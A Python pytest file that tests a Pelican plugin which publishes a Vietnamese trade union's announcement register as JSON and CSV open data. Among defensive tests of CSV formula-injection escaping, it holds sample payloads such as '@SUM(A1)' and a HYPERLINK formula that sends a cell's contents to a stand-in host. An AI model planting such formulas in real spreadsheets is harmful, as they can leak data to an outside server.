"""Open data: the register as files for programs and spreadsheets."""

import csv
import hashlib
import json
import re
import subprocess
from collections.abc import Callable
from datetime import date, datetime
from functools import cache
from io import StringIO
from pathlib import Path
from typing import Any

import fastjsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from plugins.model.register_data import RegisterData, RegisterEntry
from plugins.model.state import Life, State
from plugins.model.vietnam_time import ZONE
from plugins.outputs.location import Location
from plugins.outputs.register_csv import RegisterCsv, harmless, register_csv
from plugins.outputs.register_csv import written as as_written
from plugins.outputs.register_json import RegisterJson, register_json
from tests.conftest import Build, Built, needed, run_pelican, write
from tests.parsed import found, page
from tests.written import notice
from tests.written import text as written

SITE = "https://someone.example/union"
LISTS = {"vi": "thong-bao/", "en": "en/announcements/"}
SCHEMA = "thong-bao/data.schema.json"
PDF = b"%PDF-1.4\n" + b"x" * 300
BOOK = 'Sổ tay; "bìa đỏ", quyển 1\n'


@pytest.fixture(scope="module")
def content(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Announcements in every state; the build is on 23 November 2026."""
    return write(
        tmp_path_factory.mktemp("open-data") / "content",
        {
            "announcements/a/index.vi.md": written(
                'Hội thi "Bàn tay vàng", lần 2', "date: 2026-02-05 08:00", "number: 45/KH-CĐCS", "issuer: Công đoàn cơ sở", "signer: Trần Thị Mẫu", "signer_post: Chủ tịch",
                "place: Hà Nội", "summary: Tóm tắt.", "effective_from: 2026-02-06", "effective_until: 2026-12-31", "deadline: 2026-11-30 17:00", "event_start: 2026-12-01 08:00",
                "event_end: 2026-12-01", "event_place: Hội trường", "pinned: true", "slug: hoi-thi", "updated: 2026-03-01 09:30", "change_note: Sửa giờ.",
                "attachments: [{file: ke-hoach.pdf, title: Kế hoạch}, {file: so.txt, title: Sổ}]",
            ),
            "announcements/a/index.en.md": written("Contest", "slug: contest", "summary: In short."),
            "announcements/a/ke-hoach.pdf": PDF,
            "announcements/a/so.txt": BOOK,
            "announcements/cu.vi.md": written("Cũ", "date: 2026-01-05", "number: 03/HD-CĐCS", "slug: cu"),
            "announcements/moi.vi.md": written(
                "Mới", "date: 2026-11-10", "number: 04/HD-CĐCS", "supersedes: [03/HD-CĐCS, 99/HD-TLĐ]", "allow: unknown-number", "effective_from: 2026-11-24", "slug: moi"
            ),
            "announcements/het.vi.md": notice("Hết", "2026-11-01", "effective_until: 2026-11-22", "deadline: 2026-11-20", "slug: het"),
            "announcements/la.vi.md": written("Lạ", "date: 2026-11-02", "kind: Thư ngỏ", "slug: la"),
            "announcements/go/index.vi.md": written(
                "Gỡ", "date: 2026-11-03", "number: 08/TB-CĐCS", "status: withdrawn", "change_note: Đăng nhầm.", "slug: go", "summary: Kín.", "issuer: Ban Kín",
                "attachments: [{file: kin.pdf, title: Kín}]",
            ),
            "announcements/go/kin.pdf": PDF + b"kin",
        },
    )


@pytest.fixture(scope="module")
def site(content: Path) -> Built:
    """Its site."""
    built = run_pelican(content, content.parent / "output", content.parent / "cache", SITEURL=SITE)
    assert built.exit_code == 0, built.said
    return built


def data(built: Built, language: str = "vi") -> dict[str, Any]:
    """A register, as any parser of JSON reads it."""
    read: dict[str, Any] = json.loads((built.output / LISTS[language] / "data.json").read_bytes())
    return read


def documents(built: Built, language: str = "vi") -> dict[str, dict[str, Any]]:
    """Its documents by title."""
    return {document["title"]: document for document in data(built, language)["documents"]}


def rows(built: Built, language: str = "vi") -> list[dict[str, str]]:
    """A register as a program reads CSV that begins with a byte order mark."""
    with (built.output / LISTS[language] / "data.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


@cache
def judge(schema: str) -> Callable[[object], object]:
    """What raises an exception where something does not follow a schema."""
    compiled: Callable[[object], object] = fastjsonschema.compile(json.loads(schema))
    return compiled


@pytest.mark.parametrize("language", ["vi", "en"])
def test_json_follows_its_schema(site: Built, sample: Built, language: str) -> None:
    """What is published is as the schema says that stands at the address it names."""
    for built in (site, sample):
        read, schema = data(built, language), built.text(SCHEMA)
        assert read["$schema"] == json.loads(schema)["$id"] == f"{SITE}/{SCHEMA}"
        judge(schema)(read)
        assert read["documents"]


def test_schema_explains_every_field(site: Built) -> None:
    """Each has a description in English and in Vietnamese, and docs/open-data.md has a line for it."""
    paper = (Path(__file__).parents[1] / "docs/open-data.md").read_text(encoding="utf-8")
    schema = json.loads(site.text(SCHEMA))
    objects = [schema, *(definition for definition in schema["definitions"].values() if "properties" in definition)]
    objects.append(schema["definitions"]["document"]["properties"]["translations"]["items"])
    for object_ in objects:
        assert sorted(object_["required"]) == sorted(object_["properties"])
        assert object_["additionalProperties"] is False
        for name, property_ in object_["properties"].items():
            english, vietnamese = property_["description"].split(" – ", 1)
            assert english.isascii() or name == "number", name
            assert not vietnamese.isascii(), name
            assert f"`{name}`" in paper, name


def test_every_announcement_newest_first(site: Built) -> None:
    """Each language has its own, at full addresses; the kinds that occur are named."""
    read = data(site)
    assert [document["title"] for document in read["documents"]] == ["Mới", "Gỡ", "Lạ", "Hết", 'Hội thi "Bàn tay vàng", lần 2', "Cũ"]
    assert read["kinds"] == {"HD": "Hướng dẫn", "TB": "Thông báo", "KH": "Kế hoạch"}
    assert (read["language"], read["url"], read["publisher"]) == ("vi", f"{SITE}/thong-bao/", "Công đoàn cơ sở Bản Tin")
    english = data(site, "en")
    assert [document["url"] for document in english["documents"]] == [f"{SITE}/en/announcements/contest/"]
    assert (english["kinds"], english["language"]) == ({"KH": "Plan"}, "en")


def test_document_is_as_its_file_says(site: Built) -> None:
    """Every field says what the editor wrote; moments are Vietnam's, and a day stays a day."""
    contest = documents(site)['Hội thi "Bàn tay vàng", lần 2']
    attachments = contest.pop("attachments")
    assert contest == {
        "number": "45/KH-CĐCS",
        "kind": "KH",
        "title": 'Hội thi "Bàn tay vàng", lần 2',
        "abstract": "Tóm tắt.",
        "issuer": "Công đoàn cơ sở",
        "signer_post": "Chủ tịch",
        "signer": "Trần Thị Mẫu",
        "place": "Hà Nội",
        "issued": "2026-02-05",
        "first_day": "2026-02-06",
        "last_day": "2026-12-31",
        "last_day_named": True,
        "ending": "expired",
        "state": "current",
        "deadline": "2026-11-30T17:00:00+07:00",
        "event": {"start": "2026-12-01T08:00:00+07:00", "end": "2026-12-01", "place": "Hội trường"},
        "url": f"{SITE}/thong-bao/hoi-thi/",
        "translations": [{"language": "en", "url": f"{SITE}/en/announcements/contest/"}],
        "pinned": True,
        "relations": [],
        "published": "2026-02-05T08:00:00+07:00",
        "modified": "2026-03-01T09:30:00+07:00",
        "change_note": "Sửa giờ.",
    }
    assert [(file["title"], file["type"], file["size"]) for file in attachments] == [("Kế hoạch", "application/pdf", len(PDF)), ("Sổ", "text/plain", len(BOOK.encode()))]
    other = documents(site)["Lạ"]
    assert (other["kind"], other["number"], other["last_day_named"], other["deadline"], other["event"]) == ("Thư ngỏ", "", False, None, None)
    assert documents(site)["Hết"]["deadline"] == "2026-11-20"


@pytest.mark.parametrize("language", ["vi", "en"])
def test_published_file_is_found_by_its_digest(site: Built, language: str) -> None:
    """Who holds a copy finds the document it was published with: one line of the file, from the digest that `sha256sum` says."""
    for name, bytes_ in {"ke-hoach.pdf": PDF, "so.txt": BOOK.encode()}.items():
        file = site.output / "media/announcements/a" / name
        assert file.read_bytes() == bytes_
        digest = subprocess.run([needed("sha256sum", "coreutils"), file], capture_output=True, text=True, check=True).stdout.split()[0]
        [line] = [line for line in (site.output / LISTS[language] / "data.json").read_text("utf-8").splitlines() if digest in line]
        document = json.loads(line.removesuffix(","))
        assert (document["number"], document["state"]) == ("45/KH-CĐCS", "current")
        assert [each["url"] for each in document["attachments"] if each["sha256"] == digest] == [f"{SITE}/media/announcements/a/{name}"]
        assert [row for row in rows(site, language) if digest in next(value for key, value in row.items() if "SHA-256" in key).splitlines()]


def test_withdrawn_document(site: Built) -> None:
    """What was withdrawn keeps number, title, address and the reason; nothing else of it is told, and nobody finds its files confirmed."""
    gone = documents(site)["Gỡ"]
    assert (gone["number"], gone["state"], gone["change_note"], gone["url"]) == ("08/TB-CĐCS", "withdrawn", "Đăng nhầm.", f"{SITE}/thong-bao/go/")
    assert (gone["attachments"], gone["relations"], gone["first_day"], gone["last_day"], gone["ending"]) == ([], [], None, None, None)
    for name in ("data.json", "data.csv"):
        told = (site.output / LISTS["vi"] / name).read_text("utf-8")
        assert hashlib.sha256(PDF + b"kin").hexdigest() not in told
        assert not [word for word in ("Kín", "kin.pdf") if word in told]
    [row] = [row for row in rows(site) if row["Tiêu đề"] == "Gỡ"]
    assert (row["Tình trạng hiệu lực"], row["Nội dung sửa đổi hoặc lý do gỡ"], row["Tệp đính kèm"]) == ("Đã gỡ", "Đăng nhầm.", "")


def test_relations_in_both_directions(site: Built) -> None:
    """What supersedes and what is superseded name each other, from the same day on; a document that was never published here has no page."""
    newer, older = documents(site)["Mới"], documents(site)["Cũ"]
    assert newer["relations"] == [
        {"bearing": "supersedes", "passive": False, "number": "03/HD-CĐCS", "title": "Cũ", "url": f"{SITE}/thong-bao/cu/", "since": "2026-11-24"},
        {"bearing": "supersedes", "passive": False, "number": "99/HD-TLĐ", "title": "", "url": None, "since": "2026-11-24"},
    ]
    assert older["relations"] == [{"bearing": "supersedes", "passive": True, "number": "04/HD-CĐCS", "title": "Mới", "url": f"{SITE}/thong-bao/moi/", "since": "2026-11-24"}]
    assert (older["last_day"], older["last_day_named"], older["ending"]) == ("2026-11-23", True, "superseded")
    by_title = {row["Tiêu đề"]: row for row in rows(site)}
    assert by_title["Mới"]["Thay thế"] == "03/HD-CĐCS\n99/HD-TLĐ"
    assert by_title["Cũ"]["Được thay thế bằng"] == "04/HD-CĐCS"


def test_state_changes_at_midnight(site: Built, content: Path, tmp_path: Path) -> None:
    """To the last second of a day the old document is in force, then the new one; nothing but the state is another in the files."""
    states = {}
    for instant in ("1795453199", "1795453200"):  # 2026-11-23 23:59:59 in Vietnam, and a second later
        built = run_pelican(content, tmp_path / "output", tmp_path / "cache", SITEURL=SITE, SOURCE_DATE_EPOCH=instant)
        found_ = documents(built)
        states[instant] = [(found_[title].pop("state"), next(row["Tình trạng hiệu lực"] for row in rows(built) if row["Tiêu đề"] == title)) for title in ("Cũ", "Mới")]
        assert [{key: value for key, value in document.items() if key != "state"} for document in found_.values()] == [
            {key: value for key, value in document.items() if key != "state"} for document in documents(site).values()
        ]
    assert states["1795453199"] == [("current", "Còn hiệu lực"), ("upcoming", "Sắp có hiệu lực")]
    assert states["1795453200"] == [("past", "Đã được thay thế"), ("current", "Còn hiệu lực")]


def test_files_know_no_time_of_the_build(site: Built, content: Path, tmp_path: Path) -> None:
    """An hour later on the same day they are the same, byte for byte."""
    built = run_pelican(content, tmp_path / "output", tmp_path / "cache", SITEURL=SITE, SOURCE_DATE_EPOCH="1795406400")
    for name in ("thong-bao/data.json", "thong-bao/data.csv", SCHEMA, "en/announcements/data.json", "en/announcements/data.csv"):
        assert (built.output / name).read_bytes() == (site.output / name).read_bytes()


@pytest.mark.parametrize("language", ["vi", "en"])
def test_csv_is_as_excel_and_rfc_4180_want_it(site: Built, language: str) -> None:
    """It begins with a byte order mark, once; every line ends with CR LF; every row has a cell for each heading, in the language of the list."""
    raw = (site.output / LISTS[language] / "data.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    assert raw.endswith(b"\r\n") and not re.search(rb"\r(?!\n)", raw)
    read = rows(site, language)
    assert len(read) == len(data(site, language)["documents"])
    headings = list(read[0])
    assert len(set(headings)) == 28
    assert headings[0] == ("Số, ký hiệu" if language == "vi" else "Number and symbol")
    assert all(None not in row and None not in row.values() for row in read)


def test_row_says_what_its_file_says(site: Built) -> None:
    """Days are ISO's, times Vietnam's; kind and state are in words; a last day stands there only where a document names it."""
    by_title = {row["Tiêu đề"]: row for row in rows(site)}
    contest = by_title['Hội thi "Bàn tay vàng", lần 2']
    assert (contest["Số, ký hiệu"], contest["Loại văn bản"], contest["Tình trạng hiệu lực"]) == ("45/KH-CĐCS", "Kế hoạch", "Còn hiệu lực")
    assert (contest["Ngày ban hành"], contest["Có hiệu lực đến hết ngày"], contest["Hạn chót"]) == ("2026-02-05", "2026-12-31", "2026-11-30 17:00:00")
    assert (contest["Bắt đầu tổ chức"], contest["Kết thúc tổ chức"], contest["Cập nhật lúc"]) == ("2026-12-01 08:00:00", "2026-12-01", "2026-03-01 09:30:00")
    assert contest["Tệp đính kèm"].splitlines() == [f"{SITE}/media/announcements/a/{name}" for name in ("ke-hoach.pdf", "so.txt")]
    assert by_title["Lạ"]["Có hiệu lực đến hết ngày"] == ""


@pytest.mark.long  # an office suite is much to install for one test
def test_spreadsheet_program_finds_every_cell(build: Build, site: Built, tmp_path: Path) -> None:
    """LibreOffice, which asks for the letters' encoding and the separator, shows the cells that Python reads; days are days, and nothing is a formula."""
    hostile = build({"announcements/a.vi.md": notice("'=1+1'", "2026-11-01", "deadline: 2026-11-30 17:00", "signer: '-'", "place: '-1'")})
    for built in (site, hostile):
        table = calc(built.output / "thong-bao/data.csv", tmp_path)
        read = rows(built)
        assert [[text for text, _ in row] for row in table] == [list(read[0]), *([*row.values()] for row in read)]
        assert {kind for row in table for _, kind in row} == {"string", "date", ""}
        column = list(read[0]).index("Ngày ban hành")
        assert {row[column][1] for row in table[1:]} == {"date"}
    deadline = list(read[0]).index("Hạn chót")
    assert table[1][deadline] == ("2026-11-30 17:00:00", "date")


def calc(file: Path, folder: Path) -> list[list[tuple[str, str]]]:
    """The cells of a CSV file as LibreOffice understands them: text and type of each, row by row."""
    command = [needed("soffice", "libreoffice-calc-nogui"), f"-env:UserInstallation=file://{folder}/profile", "--headless"]
    options = ["--infilter=CSV:44,34,76,1,,1066", "--convert-to", "fods", "--outdir", str(folder), str(file)]  # , and " and UTF-8, from line 1, Vietnamese
    subprocess.run([*command, *options], capture_output=True, check=True, timeout=120)
    tree = etree.parse(folder / "data.fods")
    names = {"t": "urn:oasis:names:tc:opendocument:xmlns:table:1.0", "o": "urn:oasis:names:tc:opendocument:xmlns:office:1.0", "x": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
    table = []
    for row in tree.iterfind(".//t:table/t:table-row", names):
        cells: list[tuple[str, str]] = []
        for cell in row.iterfind("t:table-cell", names):
            assert f"{{{names['t']}}}formula" not in cell.attrib
            text = "\n".join("".join(map(str, part.itertext())) for part in cell.iterfind("x:p", names))
            cells += [(text, cell.get(f"{{{names['o']}}}value-type", ""))] * int(cell.get(f"{{{names['t']}}}number-columns-repeated", "1"))
        table.append(cells)
    return table


def test_empty_site(build: Build) -> None:
    """Without announcements the files are there, hold none, and follow the schema."""
    built = build({})
    assert built.exit_code == 0, built.said
    for language in LISTS:
        assert data(built, language)["documents"] == []
        judge(built.text(SCHEMA))(data(built, language))
        assert rows(built, language) == []


@pytest.mark.parametrize("language", ["vi", "en"])
def test_list_leads_to_its_files(site: Built, language: str) -> None:
    """The list names both, for readers and for programs; and they are there."""
    tree = page(site, f"/{LISTS[language]}")
    links = found(tree, "//p[@class='open-data']/a/@href")
    assert links == [f"/union/{LISTS[language]}data.{suffix}" for suffix in ("csv", "json")]
    assert found(tree, "//link[@rel='alternate'][@type='application/json']/@href") == links[1:]
    assert {link.removeprefix("/union/") for link in links} <= site.files()


@pytest.mark.parametrize("text", ["=1+1", "+84 24", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "＝1", "''-1"])
def test_formula_is_made_harmless(text: str) -> None:
    """What a spreadsheet could take for a formula begins with an apostrophe; the document itself can be had back."""
    assert harmless(text) == f"'{text}"
    assert as_written(harmless(text)) == text


@pytest.mark.parametrize("text", ["", "-", "+", "45/KH-CĐ", "'Tết'", "“Đoàn kết”", "1-2"])
def test_plain_text_stays_as_it_is(text: str) -> None:
    """A sign alone, a number, a quotation are no formula."""
    assert harmless(text) == text == as_written(text)


def test_title_that_looks_like_a_formula(build: Build) -> None:
    """It is harmless in the spreadsheet, and as it was written in the JSON."""
    title = '=HYPERLINK("https://a.example/?"&A1)'
    built = build({"announcements/a.vi.md": notice(json.dumps(title), "2026-11-01", "slug: a", "issuer: '@SUM(A1)'")})
    assert built.exit_code == 0, built.said
    [row], [document] = rows(built), data(built)["documents"]
    assert (row["Tiêu đề"], row["Cơ quan ban hành"]) == (f"'{document['title']}", "'@SUM(A1)")
    assert document["title"].startswith("=HYPERLINK(")
    assert document["issuer"] == "@SUM(A1)"


TEXTS = st.text(st.characters(exclude_categories=["Cs"]))
DAY = date(2026, 11, 1)
NOON = datetime(2026, 11, 1, 12, tzinfo=ZONE)


@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), min_size=1, max_size=3))
def test_any_text_comes_through(texts: list[tuple[str, str, str]]) -> None:
    """Whatever a title, a summary or a body's name holds is read back from both files as it was written."""
    entries = tuple(
        RegisterEntry(
            "/thong-bao/a/", "1/TB-CĐ", "TB", "Thông báo", title, abstract, issuer, "", "", "", DAY, Life(DAY, None, named=False), State.CURRENT,
            None, None, (), False, (), (), NOON, NOON, "",
        )
        for title, abstract, issuer in texts
    )
    register, location = RegisterData("Bản Tin", "vi", "/thong-bao/", entries), Location(SITE)
    table = list(csv.reader(StringIO(register_csv(RegisterCsv(register), str, location).decode("utf-8-sig"), newline=""), strict=True))
    assert [tuple(map(as_written, row[2:5])) for row in table[1:]] == texts
    read = json.loads(register_json(RegisterJson(register, "/thong-bao/data.schema.json"), location))
    assert [(document["title"], document["abstract"], document["issuer"]) for document in read["documents"]] == texts
